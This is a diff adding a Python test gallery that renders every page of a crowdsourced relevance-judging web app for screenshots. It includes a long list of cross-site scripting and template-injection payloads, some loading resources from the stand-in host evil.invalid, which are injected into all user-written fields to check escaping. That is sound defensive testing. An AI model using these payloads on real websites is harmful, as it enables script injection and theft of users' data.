@@ -1,0 +1,334 @@
+"""One page of every kind an assessor can see, and the worst that strangers may have written into it.
+
+`python tests/collect/web/gallery.py FOLDER` photographs all of them: light, dark and on a phone.
+"""
+
+import sys
+from collections.abc import Mapping
+from dataclasses import replace
+from pathlib import Path
+
+from qrowd.collect.campaigns.pages import DocumentText, Draft, Page, TopicText
+from qrowd.collect.protocols.events import Refusal
+from qrowd.collect.protocols.views import (
+    ConsentView,
+    DocumentView,
+    EndView,
+    ExcludedView,
+    Given,
+    Grade,
+    LinesView,
+    LineView,
+    LostView,
+    NoneLeftView,
+    PairView,
+    PausedView,
+    QuestionView,
+    RatingView,
+    RevisionView,
+    View,
+)
+from qrowd.collect.web.drawing import draw_error, draw_landing, draw_page, draw_welcome
+
+TOPIC = TopicText(
+    "why do swallows leave in autumn",
+    "What makes swallows and similar birds leave their breeding grounds in autumn?",
+    "A relevant document names a cause: food, length of day, cold, or an inner clock.\n\n"
+    "A document that only describes routes or numbers of birds is not relevant.",
+    ("Swallows feed on insects caught in flight.", "Birds kept in a room with constant light still grow restless."),
+)
+PLAIN = DocumentText(
+    "The shortening day",
+    "Swallows do not wait for the cold. Weeks before the first frost, the birds gather on wires, and one morning they "
+    "are gone. What tells a swallow to leave is the length of the day, which falls by the same amount every year.\n\n"
+    "Cold matters later, and by a detour: flying insects become rare when the nights are cool, and a bird that lives "
+    "on insects has to follow them. Leaving early costs little; leaving late may cost everything.\n\n"
+    + "\n\n".join(
+        "Ringed birds show how exact this is. In one barn, over eleven years, the last swallow left between the "
+        "twelfth and the nineteenth of September, whatever the weather had been."
+        for _ in range(4)
+    ),
+    language="en",
+)
+HTML = DocumentText(
+    "Notes from a bird station",
+    "<html><head><title>x</title><style>p{color:red}</style></head><body><h1>What we counted</h1>"
+    "<p onclick='x()'>On <b>3 September</b> most <a href='https://example.org'>swallows</a> had left &amp; few stayed; "
+    "they were <i>leaving</i> by day.</p><ul><li>Barn swallow<li>House martin</ul><li>an item alone</li>"
+    "<table><caption>Birds</caption><tr><th>Day<th>Swallows<tr><td>1<td>412<tr><td>3<td>18</table>"
+    "<blockquote>They leave before the cold.</blockquote><pre>a    b\n1    2</pre>"
+    "<img src=x onerror=alert(1)><script>alert(1)</script></body></html>",
+    html=True,
+)
+ARABIC = DocumentText(
+    "هجرة السنونو",
+    "تغادر طيور السنونو في الخريف لأن الحشرات تقل والنهار يقصر.\n\nتعود الطيور في الربيع إلى أعشاشها القديمة.",
+    language="ar",
+)
+LONG = DocumentText(
+    "",
+    "\n\n".join(f"Paragraph {i}. " + "Swallows leave. " + "Nothing else is told of it here. " * 12 for i in range(40)),
+)
+ODD = DocumentText("A" * 300, "no_spaces_" * 200 + "\n\n\u202eturned round\u202c \x00 \ufffd 𝔘𝔫𝔲𝔰𝔲𝔞𝔩 👩‍👩‍👧 \t tabs")
+EMPTY = DocumentText("", "")
+
+GRADES = (
+    Grade(1, "Bad", "Says nothing of the topic, or cannot be read."),
+    Grade(2, "Fair", "Touches the topic without answering."),
+    Grade(3, "Good", "Answers in part."),
+    Grade(4, "Excellent", "Answers the question in full."),
+    Grade(5, "Perfect", "What one would send to a friend who asked."),
+)
+BINARY = (Grade(0, "Not relevant"), Grade(1, "Relevant"))
+DOCUMENTS = {1: PLAIN, 2: HTML, 3: ARABIC, 4: LONG, 5: ODD, 6: EMPTY}
+DOCUMENT = DocumentView(
+    position=2, of=8, document=1, given=None, done=(True, True) + (False,) * 6, postponed=(False,) * 8, grades=(),
+    reason="required",
+)  # fmt: skip
+PAIR = PairView(
+    pair=3, left=1, right=2, new="right", at_most=14, may_undo=True, definitely=True, duplicates=False,
+    may_mark_bad=True, has_context=True,
+)  # fmt: skip
+
+
+def page(view: View, **changes: object) -> Page:
+    """A page that shows this view, in a campaign of our own."""
+    made = Page(
+        campaign="birds", title="Birds in autumn", protocol="magnitude", name="Ann", view=view, topic=TOPIC,
+        documents=DOCUMENTS, shown="s1", key="k1", consent="You will read eight short documents. It takes ten "
+        "minutes.\n\nYou may stop at any time.", instructions="Read the topic, then each document.\n\nTake your time.",
+    )  # fmt: skip
+    return replace(made, **changes)
+
+
+def document(**changes: object) -> Page:
+    """A page with one document to judge."""
+    return page(replace(DOCUMENT, **changes))
+
+
+def pair(**changes: object) -> Page:
+    """A page with two documents."""
+    return replace(page(replace(PAIR, **changes)), protocol="preference")
+
+
+DONE = EndView("completed")
+QUESTION = QuestionView(
+    "What must a relevant document name?",
+    ("The route the birds take", "A cause of leaving", "How many birds leave", "Where they spend the winter"),
+    retry=False,
+    left=2,
+)
+GALLERY: dict[str, Page] = {
+    "consent": page(ConsentView()),
+    "consent-default": page(ConsentView(), consent="", instructions=""),
+    "consent-platform": page(ConsentView(), consent="", instructions="", name="5f01", named=False),
+    "line": page(LineView(0, 3, 0.31), topic=None),
+    "line-again": page(LineView(0, 3, 0.62, retry=True), topic=None),
+    "lines-passed": page(LinesView((0.2, 0.45, 0.9), ("2", "4,5", "10"), True, 0), topic=None),
+    "lines-failed": page(LinesView((0.2, 0.45, 0.9), ("20", "4", "10"), False, 1), topic=None),
+    "question": page(QUESTION),
+    "question-again": page(replace(QUESTION, retry=True, left=1)),
+    "magnitude": document(),
+    "magnitude-first": document(position=0, done=(False,) * 8),
+    "magnitude-given": document(given=Given("40", "It names the length of the day."), revising=True, done=(True,) * 8),
+    "magnitude-draft": replace(document(), draft=Draft("12", "Half a sent")),
+    "magnitude-html": document(document=2),
+    "magnitude-arabic": document(document=3),
+    "magnitude-long": document(document=4),
+    "magnitude-odd": document(document=5),
+    "magnitude-empty": document(document=6),
+    "grades": document(grades=GRADES, reason="optional", may_postpone=True, may_not_tell=True),
+    "grades-given": document(
+        grades=GRADES, reason="none", given=Given("4"), done=(True, False, True) + (False,) * 5,
+        postponed=(False, True) + (False,) * 6, may_not_tell=True,
+    ),
+    "grades-forty": document(grades=GRADES, of=40, done=(True,) * 30 + (False,) * 10, postponed=(False,) * 40),
+    "binary": document(grades=BINARY, reason="none"),
+    "revision": page(RevisionView(8, 1)),
+    "pair": pair(),
+    "pair-first": pair(pair=0, new="both", may_undo=False, definitely=False, duplicates=True),
+    "pair-removed": pair(left=3, right=4, removed=True, at_most=1),
+    "pair-odd": pair(left=5, right=6, has_context=False, may_mark_bad=False),
+    "rating": page(RatingView()),
+    "end": page(DONE, link="https://app.prolific.com/submissions/complete?cc=C0FFEE", code="C0FFEE"),
+    "end-mturk": page(DONE, link="https://www.mturk.com/mturk/externalSubmit?assignmentId=A1&workerId=W1"),
+    "end-early": page(EndView("completed", early=True, another=True)),
+    "end-code": page(DONE, code="BIRD-77"),
+    "end-failed": page(EndView("failed", another=True)),
+    "end-screened": page(EndView("screened_out")),
+    "end-practice": page(EndView("practice_failed"), topic=None),
+    "end-declined": page(EndView("declined"), topic=None),
+    "end-declined-platform": page(EndView("declined"), topic=None, name="5f01", named=False),
+    "none-left": page(NoneLeftView(4_000_000_000.0, False), topic=None),
+    "none-left-ready": page(NoneLeftView(1_790_000_000.0, False), topic=None),
+    "none-left-finished": page(NoneLeftView(None, True), topic=None, code="BIRD-77"),
+    "none-left-never": page(NoneLeftView(None, False), topic=None),
+    "lost": page(LostView(40), topic=None),
+    "paused": page(PausedView(), topic=None),
+    "stopped": page(PausedView(stopped=True), topic=None),
+    "excluded": page(ExcludedView(), topic=None),
+    "preview": replace(document(grades=GRADES, reason="optional"), preview=True),
+    "preview-pair": replace(pair(), preview=True),
+}  # fmt: skip
+GALLERY = {name: replace(one, shown=name, key=f"key of {name}") for name, one in GALLERY.items()}
+PROBLEMS: dict[str, tuple[Page, Refusal, Mapping[str, str]]] = {
+    "problem-number": (
+        document(),
+        Refusal("number", "Enter a number greater than 0, for example 0.5, 10 or 250.", "text"),
+        {"text": "many", "reason": "kept"},
+    ),
+    "problem-option": (GALLERY["question"], Refusal("option", "Choose one answer.", "option"), {}),
+    "problem-whole": (document(), Refusal("stale", "Your task has moved on."), {"text": "7"}),
+    "problem-rating": (GALLERY["rating"], Refusal("missing", "Choose one.", "understanding"), {"confidence": "4"}),
+}
+STATUSES = (403, 404, 409, 413, 422, 429, 500, 503)
+
+
+def drawn(base: str = "/c/birds") -> dict[str, str]:
+    """Every page as HTML, by name."""
+    pages = {name: draw_page(one, csrf="t0ken", base=base) for name, one in GALLERY.items()}
+    for name, (one, problem, typed) in PROBLEMS.items():
+        pages[name] = draw_page(replace(one, shown=name), csrf="t0ken", base=base, problem=problem, typed=typed)
+    pages["notice"] = draw_page(document(), csrf="t0ken", base=base, notice="Saved.")
+    pages["welcome"] = draw_welcome("Birds in autumn", "Ten minutes.", csrf="t", action="/join/x", name="Ann")
+    pages["welcome-used"] = draw_welcome("Birds in autumn", csrf="t", action="", problem="This link was withdrawn.")
+    pages["landing"] = draw_landing()
+    for status in STATUSES:
+        pages[f"error-{status}"] = draw_error(status, reference="7F3A" if status >= 500 else "", back=base)
+    return pages
+
+
+PAYLOADS = (
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=https://evil.invalid/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script\x00>alert(1)</script>",
+    "<script/xss>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=https://evil.invalid/p.png>",
+    "<img/src/onerror=alert(1)>",
+    '<img """><script>alert(1)</script>">',
+    "<img src=`x` onerror=alert(1)>",
+    "<img srcset='https://evil.invalid/a 1x'>",
+    "<image src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
+    "<svg><use href='data:image/svg+xml;base64,PHN2Zy8+#x'></use></svg>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
+    "<math href=javascript:alert(1)>x</math>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<textarea></textarea><img src=x onerror=alert(1)>",
+    "<title></title><img src=x onerror=alert(1)>",
+    "<style>@import 'https://evil.invalid/x.css';</style>",
+    "<style>body{background:url(https://evil.invalid/b)}</style>",
+    "<link rel=stylesheet href=https://evil.invalid/x.css>",
+    "<link rel=prefetch href=https://evil.invalid/x>",
+    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
+    "<base href=https://evil.invalid/>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<iframe src=https://evil.invalid/></iframe>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=javascript:alert(1)>",
+    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
+    "<a href='java\tscript:alert(1)'>x</a>",
+    "<a href=//evil.invalid>x</a>",
+    "<body onload=alert(1)>",
+    "<body background=https://evil.invalid/b>",
+    "<details open ontoggle=alert(1)><summary>x</summary></details>",
+    "<video src=x onerror=alert(1)></video>",
+    "<video poster=https://evil.invalid/p></video>",
+    "<audio src=https://evil.invalid/a autoplay onerror=alert(1)></audio>",
+    "<source src=x onerror=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)></select>",
+    "<button onclick=alert(1) form=judge name=do value=judge>x</button>",
+    "<form action=https://evil.invalid/ method=post><input type=submit></form>",
+    "<isindex action=javascript:alert(1) type=image>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<table background=https://evil.invalid/t><tr><td>x</table>",
+    "<div style='background:url(https://evil.invalid/d)'>x</div>",
+    "<p style=animation-name:x onanimationstart=alert(1)>x</p>",
+    "<div id=main data-base=https://evil.invalid>x</div>",
+    "<p class=primary data-default data-keys=1>x</p>",
+    "\" autofocus onfocus=alert(1) x=\"",
+    "' autofocus onfocus=alert(1) x='",
+    "\"><img src=x onerror=alert(1)>",
+    "'><svg/onload=alert(1)>",
+    "--><img src=x onerror=alert(1)><!--",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<img src=x onerror=alert(1)>]]>",
+    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
+    "javascript:alert(1)",
+    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}${alert(1)}",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;img src=x onerror=alert(1)&#62;",
+    "\\u003cimg src=x onerror=alert(1)\\u003e",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "<plaintext>",
+    "<xmp><img src=x onerror=alert(1)></xmp>",
+    "<template><img src=x onerror=alert(1)></template>",
+)  # fmt: skip
+
+
+def poisoned(payload: str) -> dict[str, str]:
+    """Pages of all kinds with a payload in every text that somebody else may have written."""
+    text = {name: DocumentText(payload, payload, html, payload) for name, html in ((1, True), (2, False))}
+    topic = TopicText(payload, payload, payload, (payload,))
+    grades = (Grade(1, payload, payload), Grade(2, "b"))
+    views: dict[str, View] = {
+        "consent": ConsentView(),
+        "question": QuestionView(payload, (payload, payload), True, 1),
+        "lines": LinesView((0.1, 0.2), (payload, "2"), False, 1),
+        "magnitude": replace(DOCUMENT, given=Given(payload, payload)),
+        "grades": replace(DOCUMENT, document=2, grades=grades),
+        "pair": PAIR,
+        "end": EndView("completed"),
+        "rating": RatingView(),
+    }
+    pages = {}
+    for name, view in views.items():
+        one = page(view, title=payload, campaign=payload, name=payload, topic=topic, documents=text, consent=payload,
+                   instructions=payload, shown=payload, key=payload, code=payload, link=payload)  # fmt: skip
+        refusal = Refusal("x", payload, "text" if name == "magnitude" else "")
+        typed = {"text": payload, "reason": payload, "comment": payload}
+        pages[name] = draw_page(one, csrf=payload, base="/c/birds", notice=payload, problem=refusal, typed=typed)
+    pages["welcome"] = draw_welcome(
+        payload, payload, csrf=payload, action="/c/x", name=payload, fields={payload: payload}
+    )
+    pages["error"] = draw_error(500, message=payload, reference=payload, back="/c/birds")
+    return pages
+
+
+LOOKS = {
+    "light": {"viewport": {"width": 1280, "height": 800}, "color_scheme": "light"},
+    "dark": {"viewport": {"width": 1280, "height": 800}, "color_scheme": "dark"},
+    "phone": {"viewport": {"width": 390, "height": 780}, "color_scheme": "light", "device_scale_factor": 2},
+}
+
+
+def photograph(folder: Path, names: tuple[str, ...] = ()) -> list[Path]:
+    """PNG pictures of the pages named, or of all: one per look."""
+    from browsers import chromium
+    from collect.web.serving import serving
+
+    folder.mkdir(parents=True, exist_ok=True)
+    made = []
+    with serving(drawn()) as site, chromium() as browser:
+        for look, options in LOOKS.items():
+            context = browser.new_context(**options)
+            tab = context.new_page()
+            for name in names or site.pages:
+                tab.goto(f"{site.address}/pages/{name}")
+                made.append(folder / f"{name}-{look}.png")
+                tab.screenshot(path=made[-1])
+    return made
+
+
+if __name__ == "__main__":
+    print(*photograph(Path(sys.argv[1]), tuple(sys.argv[2:])), sep="\n")
